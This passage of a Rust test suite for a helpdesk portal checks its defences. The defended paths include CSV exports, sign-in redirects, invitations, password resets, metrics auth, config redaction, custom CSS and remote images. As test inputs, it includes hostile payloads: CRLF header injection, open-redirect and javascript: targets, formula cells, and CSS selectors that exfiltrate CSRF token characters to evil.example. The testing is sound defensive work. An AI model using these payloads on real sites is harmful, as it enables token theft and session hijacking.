        .post(app.url("/invite/accept"))
        .form(&[
            ("_csrf", csrf.as_str()),
            ("token", token.as_str()),
            ("name", "-2+3"),
            ("password", "portico-demo"),
            ("password_confirm", "portico-demo"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    app.api_login("acme", "+1@globex.example", "portal").await;
    let alice = app
        .api_login("acme", "alice@globex.example", "portal")
        .await;
    let r = alice.get("/portal/audit?format=csv").await;
    assert_eq!(r.status(), StatusCode::OK);
    let rows = csv_rows(&r.text().await.unwrap());
    assert_no_formula_cells(&rows);
    assert!(
        rows.iter()
            .any(|r| &r[2] == "'+1@globex.example" && &r[3] == "auth.login"),
        "{rows:?}"
    );
}
crate::db_test!(csv_formulas, csv_exports_neutralise_formulas);

// ---- 7: `next` after sign-in ----

async fn unsafe_next_targets_are_ignored(app: TestApp) {
    // A fresh browser per sign-in: a signed-in one would need its session's CSRF token.
    let sign_in = |path: &'static str, email: &'static str, next: &'static str| {
        let app = &app;
        async move {
            let c = app.client();
            let csrf = page_csrf(app, &c, path).await;
            c.post(app.url(path))
                .form(&[
                    ("_csrf", csrf.as_str()),
                    ("email", email),
                    ("password", "portico-demo"),
                    ("next", next),
                ])
                .send()
                .await
                .unwrap_or_else(|e| panic!("{next:?} broke the response: {e}"))
        }
    };
    // A safe target is followed, so ignoring one below is a decision, not the default.
    let r = sign_in("/login", "bob@globex.example", "/portal/tickets").await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(r.headers()["location"], "/portal/tickets");
    for next in [
        "/portal/tickets\r\nSet-Cookie: evil=1",
        "/portal/tickets\nX: y",
        "/portal/\0",
        "/portal/\u{7f}",
        "/portal/\u{85}",
        "/portal/tickets\t",
        "https://evil.example/portal",
        "//evil.example/portal",
        "/portal\\..\\..\\evil",
        "/portal/x?u=https://evil.example",
        "javascript:alert(1)",
    ] {
        let r = sign_in("/login", "bob@globex.example", next).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(r.headers()["location"], "/portal/dashboard", "{next:?}");
        assert!(r.headers().get("x").is_none());
        assert!(
            r.headers()
                .get_all("set-cookie")
                .iter()
                // An injected cookie would be named `evil`; random session tokens may
                // contain the letters, so look at the name only.
                .all(|v| !v.to_str().unwrap_or("").trim_start().starts_with("evil")),
            "{next:?}"
        );
    }
    // Percent-encoded in the address of the sign-in page: shown, never a 500.
    let anon = app.client();
    for q in ["%0d%0aSet-Cookie:%20evil=1", "%00", "%2F%2Fevil.example"] {
        let r = anon
            .get(app.url(&format!("/login?tenant=acme&next=/portal/x{q}")))
            .send()
            .await
            .unwrap();
        assert!(r.status().is_success(), "{q}: {}", r.status());
    }
    // The staff sign-in ignores portal targets and control characters alike.
    for next in [
        "/admin/users\r\n",
        "/portal/tickets",
        "//evil.example/admin",
    ] {
        let r = sign_in("/admin/login", "staff@acme.example", next).await;
        assert_eq!(r.status(), StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(r.headers()["location"], "/admin", "{next:?}");
    }
}
crate::db_test!(next_targets, unsafe_next_targets_are_ignored);

// ---- 8: invitations and resets reveal nothing ----

/// After a masked invitation (an address with an account elsewhere) the inviting company sees
/// what a real pending invitation shows: listed as invited with an expiry, counted against
/// its seats, its id answering every action, revocable; staff alone see the audit rows.
async fn masked_invitation_looks_real(app: TestApp) {
    let alice = app
        .api_login("acme", "alice@globex.example", "portal")
        .await;
    let r = alice
        .post_json(
            "/api/v1/team",
            &json!({ "email": "ian@initech.example", "name": "Probe", "role": "client_user" }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::CREATED);
    let b: Value = r.json().await.unwrap();
    let id = b["id"].as_str().expect("id").to_string();
    // Listed among the members, as invited.
    let list: Value = alice
        .get("/api/v1/team?limit=200")
        .await
        .json()
        .await
        .unwrap();
    let listed = list.to_string();
    assert!(listed.contains("ian@initech.example"), "{listed}");
    assert!(listed.contains(&id));
    let page = alice.get("/portal/team").await.text().await.unwrap();
    assert!(
        page.contains("ian@initech.example"),
        "shown on the team page"
    );
    // Its id answers like a real invitation's: role change, resend, revoke.
    let r = alice
        .patch_json(
            &format!("/api/v1/team/{id}"),
            &json!({ "role": "client_viewer" }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let b: Value = r.json().await.unwrap();
    assert_eq!(b["role"], "client_viewer");
    assert_eq!(b["status"], "invited");
    let r = alice
        .post_json(&format!("/api/v1/team/{id}/resend"), &json!({}))
        .await;
    assert!(r.status().is_success(), "{}", r.status());
    let r = alice
        .post_form(&format!("/portal/team/{id}/revoke"), &[])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let list: Value = alice
        .get("/api/v1/team?limit=200")
        .await
        .json()
        .await
        .unwrap();
    assert!(!list.to_string().contains("ian@initech.example"), "revoked");
    // Ian's account was never touched and got no mail.
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM users WHERE email = 'ian@initech.example' AND status = 'active' \
             AND name <> 'Probe'",
            &[],
        )
        .await,
        1
    );
    let actions = app.audit_actions("acme").await;
    assert!(
        actions
            .iter()
            .any(|a| a == "user.masked_invitation_withdrawn")
    );
    assert!(
        actions
            .iter()
            .any(|a| a == "user.masked_invitation_role_changed")
    );
    let own: Value = alice
        .get("/api/v1/audit?limit=200")
        .await
        .json()
        .await
        .unwrap();
    assert!(!own.to_string().contains("masked_invitation"), "{own}");
}
crate::db_test!(
    hardening_masked_invitation_looks_real,
    masked_invitation_looks_real
);

async fn invitations_and_resets_reveal_nothing(app: TestApp) {
    let alice = app
        .api_login("acme", "alice@globex.example", "portal")
        .await;
    let r = alice
        .post_json(
            "/api/v1/team",
            &json!({ "email": "newbie@globex.example", "name": "New Bie", "role": "client_user" }),
        )
        .await;
    let fresh_status = r.status();
    assert_eq!(fresh_status, StatusCode::CREATED);
    let fresh: Value = r.json().await.unwrap();
    let keys = |v: &Value| {
        let mut k: Vec<String> = v.as_object().expect("object").keys().cloned().collect();
        k.sort();
        k
    };
    let ian_id = app.user_id("acme", "ian@initech.example").await;
    let ian_before = count(
        &app,
        "SELECT COUNT(*) FROM users WHERE id = $1 AND status = 'active' AND company_id IS NOT NULL AND name <> 'Probe'",
        &[&ian_id],
    )
    .await;
    assert_eq!(ian_before, 1);
    // Another company's member, and a staff member: answered like the fresh invitation.
    for (i, taken) in ["ian@initech.example", "staff@acme.example"]
        .into_iter()
        .enumerate()
    {
        let r = alice
            .post_json(
                "/api/v1/team",
                &json!({ "email": taken, "name": "Probe", "role": "client_user" }),
            )
            .await;
        assert_eq!(r.status(), fresh_status, "{taken}");
        let b: Value = r.json().await.unwrap();
        assert_eq!(keys(&b), keys(&fresh), "{b}");
        for k in [
            "status",
            "role",
            "company_id",
            "company_name",
            "last_login_at",
            "mfa_enabled",
        ] {
            assert_eq!(b[k], fresh[k], "{taken}: {k}");
        }
        assert_eq!(b["email"], taken);
        assert_eq!(b["name"], "Probe");
        let id = b["id"].as_str().expect("id");
        assert_eq!(id.len(), fresh["id"].as_str().unwrap().len());
        assert_ne!(id, ian_id);
        // Inviting the same address again is refused exactly as for a real invitation, on
        // the page form as well.
        let again_fresh = alice
            .post_form(
                "/portal/team/invite",
                &[
                    ("email", "newbie@globex.example"),
                    ("name", "New Bie"),
                    ("role", "client_user"),
                ],
            )
            .await;
        let again_fresh_status = again_fresh.status();
        let again_fresh_html = again_fresh.text().await.unwrap();
        let again_probe = alice
            .post_form(
                "/portal/team/invite",
                &[("email", taken), ("name", "Probe"), ("role", "client_user")],
            )
            .await;
        assert_eq!(again_fresh_status, StatusCode::BAD_REQUEST, "{i}");
        assert_eq!(again_probe.status(), again_fresh_status, "{taken}");
        let again_probe_html = again_probe.text().await.unwrap();
        let msg = "Someone with that email already has an account here.";
        assert!(again_fresh_html.contains(msg) && again_probe_html.contains(msg));
    }
    // Nothing happened to those accounts, no link was made or mailed for them.
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM users WHERE id = $1 AND status = 'active' AND company_id IS NOT NULL AND name <> 'Probe'",
            &[&ian_id],
        )
        .await,
        1
    );
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM one_time_tokens t JOIN users u ON u.id = t.user_id \
             WHERE u.email IN ('ian@initech.example', 'staff@acme.example')",
            &[],
        )
        .await,
        0
    );
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM jobs WHERE payload LIKE '%staff@acme.example%'",
            &[],
        )
        .await,
        0
    );
    // The other company's client person is offered a membership (once: the repeat was refused
    // as a duplicate); that mail goes to them, never to the inviting company.
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM jobs WHERE payload LIKE '%ian@initech.example%'",
            &[],
        )
        .await,
        1
    );
    // Staff see the suppressed invitations; the inviting company's own log does not.
    let actions = app.audit_actions("acme").await;
    assert_eq!(times(&actions, "user.invitation_suppressed"), 2);
    let own: Value = alice
        .get("/api/v1/audit?limit=200")
        .await
        .json()
        .await
        .unwrap();
    assert!(!own.to_string().contains("invitation_suppressed"), "{own}");
    assert!(!own.to_string().contains("ian@initech.example"), "{own}");

    // An invitation link stops working once the invitee is deactivated, and stays dead
    // when the account is reactivated.
    let mail = app.last_mail_to("newbie@globex.example").await;
    let link = link_in(&mail, &app.url("/invite/accept"));
    let token = link.split("token=").nth(1).unwrap().to_string();
    let c = app.client();
    let page = c.get(&link).send().await.unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    let csrf = form_csrf(&page.text().await.unwrap());
    let newbie = fresh["id"].as_str().unwrap();
    let r = alice
        .patch_json(
            &format!("/api/v1/team/{newbie}"),
            &json!({ "status": "deactivated" }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(
        c.get(&link).send().await.unwrap().status(),
        StatusCode::NOT_FOUND
    );
    let accept = |pass: &'static str| {
        c.post(app.url("/invite/accept"))
            .form(&[
                ("_csrf", csrf.as_str()),
                ("token", token.as_str()),
                ("name", "New Bie"),
                ("password", pass),
                ("password_confirm", pass),
            ])
            .send()
    };
    assert_eq!(
        accept("newbie-password-1").await.unwrap().status(),
        StatusCode::NOT_FOUND
    );
    let r = alice
        .patch_json(
            &format!("/api/v1/team/{newbie}"),
            &json!({ "status": "active" }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(r.json::<Value>().await.unwrap()["status"], "invited");
    assert_eq!(
        c.get(&link).send().await.unwrap().status(),
        StatusCode::NOT_FOUND,
        "reactivation revived an old link"
    );
    assert_eq!(
        accept("newbie-password-1").await.unwrap().status(),
        StatusCode::NOT_FOUND
    );
    let (_, r) = app
        .form_login("acme", "newbie@globex.example", "newbie-password-1", false)
        .await;
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);

    // A reset link dies with deactivation too.
    let staff = app.api_login("acme", "staff@acme.example", "admin").await;
    let c = app.client();
    let csrf = page_csrf(&app, &c, "/forgot-password").await;
    let forgot = |email: &'static str| {
        c.post(app.url("/forgot-password"))
            .form(&[("_csrf", csrf.as_str()), ("email", email)])
            .send()
    };
    assert_eq!(
        forgot("vera@globex.example").await.unwrap().status(),
        StatusCode::OK
    );
    let mail = app.last_mail_to("vera@globex.example").await;
    let reset = link_in(&mail, &app.url("/reset-password"));
    assert_eq!(c.get(&reset).send().await.unwrap().status(), StatusCode::OK);
    let vera = app.user_id("acme", "vera@globex.example").await;
    for status in ["deactivated", "active"] {
        let r = staff
            .patch_json(
                &format!("/api/v1/admin/users/{vera}"),
                &json!({ "status": status }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::OK);
        assert_eq!(
            c.get(&reset).send().await.unwrap().status(),
            StatusCode::NOT_FOUND,
            "reset link after {status}"
        );
    }

    // Reset requests: the same answer for an account, an unknown address, a deactivated
    // account and a pending invitation, and the same audit trace (one row each).
    let r = staff
        .patch_json(
            &format!("/api/v1/admin/users/{vera}"),
            &json!({ "status": "deactivated" }),
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let rows = count(
        &app,
        "SELECT COUNT(*) FROM audit_log WHERE action = 'auth.password_reset_requested'",
        &[],
    )
    .await;
    let mut answers = Vec::new();
    for email in [
        "bob@globex.example",
        "nobody@globex.example",
        "vera@globex.example",
        "newbie@globex.example",
    ] {
        let r = forgot(email).await.unwrap();
        let status = r.status();
        let body = r.text().await.unwrap();
        assert!(body.contains(RESET_SENT), "{email}");
        answers.push((email, status, body));
    }
    for (email, status, body) in &answers[1..] {
        assert_eq!(*status, answers[0].1, "{email}");
        assert_eq!(*body, answers[0].2, "{email}: the page differs");
    }
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM audit_log WHERE action = 'auth.password_reset_requested'",
            &[],
        )
        .await,
        rows + 4
    );
}
crate::db_test!(
    invitations_and_resets,
    invitations_and_resets_reveal_nothing
);

// ---- 9: metrics and configuration output ----

async fn metrics_need_the_token(db: Db) {
    let Some(app) = TestApp::spawn_with(db, metrics_token).await else {
        return;
    };
    let c = app.client();
    let r = c.get(app.url("/metrics")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    assert!(r.headers().get("www-authenticate").is_some());
    for wrong in [
        "Bearer wrong".to_string(),
        format!("Bearer {}", &METRICS_TOKEN[..METRICS_TOKEN.len() - 1]),
        format!("Bearer {METRICS_TOKEN}x"),
        format!("Basic {METRICS_TOKEN}"),
        METRICS_TOKEN.to_string(),
    ] {
        let r = c
            .get(app.url("/metrics"))
            .header("authorization", &wrong)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "{wrong}");
        assert!(
            !r.text()
                .await
                .unwrap()
                .contains("portico_http_requests_total")
        );
    }
    let r = c
        .get(app.url("/metrics"))
        .bearer_auth(METRICS_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(
        r.text()
            .await
            .unwrap()
            .contains("portico_http_requests_total")
    );

    // `Debug` of the running configuration shows none of its secrets.
    let cfg = &app.state.config;
    let shown = format!("{cfg:?} {cfg:#?}");
    let secret = String::from_utf8(cfg.secret_key.clone()).unwrap();
    let secret_bytes = format!("{:?}", &cfg.secret_key[..4]);
    for leak in [
        secret.as_str(),
        &secret_bytes[1..secret_bytes.len() - 1],
        METRICS_TOKEN,
        ":postgres@",
    ] {
        assert!(!shown.contains(leak), "{leak} in {shown}");
    }
    assert!(shown.contains("<redacted>"), "{shown}");
}
crate::db_test_with!(metrics_bearer, metrics_need_the_token);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metrics_move_to_their_own_listener() {
    let addr = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("free port");
    let app = TestApp::spawn_with(Db::Sqlite, |c| {
        c.metrics_listen = Some(addr);
        c.metrics_token = Some(METRICS_TOKEN.into());
    })
    .await
    .expect("app");
    let c = app.client();
    // The main listener starts after the metrics one is bound, so once it answers both do.
    let r = c.get(app.url("/metrics")).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
    let r = c
        .get(app.url("/metrics"))
        .bearer_auth(METRICS_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND, "main listener");
    let metrics = format!("http://{addr}/metrics");
    let r = c.get(&metrics).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let r = c
        .get(&metrics)
        .bearer_auth(METRICS_TOKEN)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r.text().await.unwrap().contains("portico_"));
    // The metrics listener serves nothing else.
    let r = c
        .get(format!("http://{addr}/login?tenant=acme"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::NOT_FOUND);
}

#[test]
fn config_debug_hides_smtp_and_database_passwords() {
    let c = Config::from_lookup(|k| match k {
        "PORTICO_SECRET_KEY" => Some("key-material-that-is-long-enough-42".into()),
        "PORTICO_DATABASE_URL" => Some("postgres://app:db-pass-123@db.internal/portico".into()),
        "PORTICO_SMTP_URL" => Some("smtps://mailer:smtp-pass-456@mail.internal:465".into()),
        "PORTICO_METRICS_TOKEN" => Some(METRICS_TOKEN.into()),
        _ => None,
    })
    .expect("config");
    let shown = format!("{c:?}");
    for leak in [
        "key-material",
        "db-pass-123",
        "smtp-pass-456",
        METRICS_TOKEN,
    ] {
        assert!(!shown.contains(leak), "{leak} in {shown}");
    }
    assert!(shown.contains("mail.internal"), "{shown}");
}

// ---- 10: custom CSS and remote images ----

async fn custom_css_cannot_read_the_page(app: TestApp) {
    let staff_session = app.api_login("acme", "staff@acme.example", "admin").await;
    let staff = &staff_session;
    let put = |css: &str| {
        let body = json!({
            "portal_name": "Acme IT",
            "logo_url": "https://cdn.acme.example/logo.png",
            "custom_css": css,
        });
        async move { staff.put_json("/api/v1/admin/branding", &body).await }
    };
    for (css, needle) in [
        (
            "input[name=_csrf][value^=\"a\"] { background: url(https://cdn.acme.example/a.png) }",
            "value",
        ),
        ("input[value=\"secret\"] { color: red }", "value"),
        ("input[ VALUE ] { color: red }", "value"),
        ("a[href$=\".pdf\"] { color: red }", "^="),
        ("a[data-token*=\"z\"] { color: red }", "^="),
        (
            ".tile { background: url(https://evil.example/leak.png) }",
            "hosts of your logo",
        ),
        (
            ".tile { background: url(\"https://evil.example/leak.png\") }",
            "hosts of your logo",
        ),
        (
            ".tile { background: image-set(\"https://evil.example/a.png\" 1x) }",
            "hosts of your logo",
        ),
        (
            ".tile { background: url(https://cdn.acme.example.evil.example/a.png) }",
            "hosts of your logo",
        ),
    ] {
        let r = put(css).await;
        assert_eq!(r.status(), StatusCode::BAD_REQUEST, "{css}");
        let e: Value = r.json().await.unwrap();
        assert_eq!(field_names(&e), ["custom_css"], "{css}: {e}");
        assert!(
            e["error"]["fields"][0]["message"]
                .as_str()
                .unwrap_or("")
                .contains(needle),
            "{css}: {e}"
        );
    }
    let served = |app: &TestApp| {
        let url = app.url("/branding/acme/custom.css");
        async move { reqwest::get(url).await.unwrap().text().await.unwrap() }
    };
    let css = served(&app).await;
    assert!(
        !css.contains("evil.example") && !css.contains("value"),
        "{css}"
    );
    // Own assets and ordinary attribute selectors are fine.
    let good = ".tile { background: url(https://cdn.acme.example/bg.png) }\ninput[type=\"checkbox\"] { margin: 0 }";
    let r = put(good).await;
    assert_eq!(r.status(), StatusCode::OK);
    assert!(served(&app).await.contains("cdn.acme.example/bg.png"));

    // A stylesheet stored before these rules (or written around them) is not served.
    let legacy = "input[name=_csrf][value^=\"a\"] { background: url(https://evil.example/a) }";
    exec(
        &app,
        "UPDATE tenants SET custom_css = $1 WHERE slug = 'acme'",
        &[legacy],
    )
    .await;
    let css = served(&app).await;
    assert!(
        !css.contains("evil.example") && !css.contains("value^="),
        "{css}"
    );
}
crate::db_test!(custom_css_rules, custom_css_cannot_read_the_page);

async fn remote_images_follow_the_tenant_setting(app: TestApp) {
    let bob_session = app.api_login("acme", "bob@globex.example", "portal").await;
    let bob = &bob_session;
    let markdown = "Screenshot: ![pixel](https://tracker.example/p.png) and \
                    <img src=\"//tracker.example/q.png\"> and ![local](/assets/portico.svg)";
    let create = || async {
        let r = bob
            .post_json(
                "/api/v1/tickets",
                &json!({ "subject": "Images", "description": markdown }),
            )
            .await;
        assert_eq!(r.status(), StatusCode::CREATED);
        r.json::<Value>().await.unwrap()["number"].as_i64().unwrap()
    };
    let html_of = |n: i64| async move {
        let t: Value = bob
            .get(&format!("/api/v1/tickets/{n}"))
            .await
            .json()
            .await
            .unwrap();
        let comment = t["comments"]
            .as_array()
            .and_then(|c| c.last())
            .map(|c| c["body_html"].as_str().unwrap_or("").to_string())
            .unwrap_or_default();
        (t["description_html"].as_str().unwrap().to_string(), comment)
    };
    let comment = |n: i64| async move {
        let r = bob
            .post_json(
                &format!("/api/v1/tickets/{n}/comments"),
                &json!({ "body": markdown }),
            )
            .await;
        assert!(r.status().is_success(), "{}", r.status());
    };
    let refused = |html: &str| {
        assert!(!html.contains("src=\"https://tracker"), "{html}");
        assert!(!html.contains("src=\"//tracker"), "{html}");
        assert!(
            html.contains("<a href=\"https://tracker.example/p.png\""),
            "{html}"
        );
        assert!(html.contains("src=\"/assets/portico.svg\""), "{html}");
    };

    // Off by default: remote images become links.
    let first = create().await;
    comment(first).await;
    let (desc, body) = html_of(first).await;
    refused(&desc);
    refused(&body);

    // Only branding managers may change it.
    let tech = app.api_login("acme", "tech@acme.example", "admin").await;
    let r = tech
        .post_form("/admin/branding/images", &[("remote_images", "on")])
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);

    let staff = app.api_login("acme", "staff@acme.example", "admin").await;
    let r = staff
        .post_form("/admin/branding/images", &[("remote_images", "on")])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let page = staff.get("/admin/branding").await.text().await.unwrap();
    assert!(
        page.contains("name=\"remote_images\" value=\"on\" checked"),
        "{page}"
    );
    let second = create().await;
    comment(first).await;
    let (desc, _) = html_of(second).await;
    assert!(
        desc.contains("<img src=\"https://tracker.example/p.png\""),
        "{desc}"
    );
    let (_, body) = html_of(first).await;
    assert!(
        body.contains("<img src=\"https://tracker.example/p.png\""),
        "{body}"
    );

    // Off again.
    let r = staff.post_form("/admin/branding/images", &[]).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let third = create().await;
    refused(&html_of(third).await.0);
    let actions = app.audit_actions("acme").await;
    assert_eq!(times(&actions, "branding.remote_images_changed"), 2);
}
crate::db_test!(remote_images, remote_images_follow_the_tenant_setting);
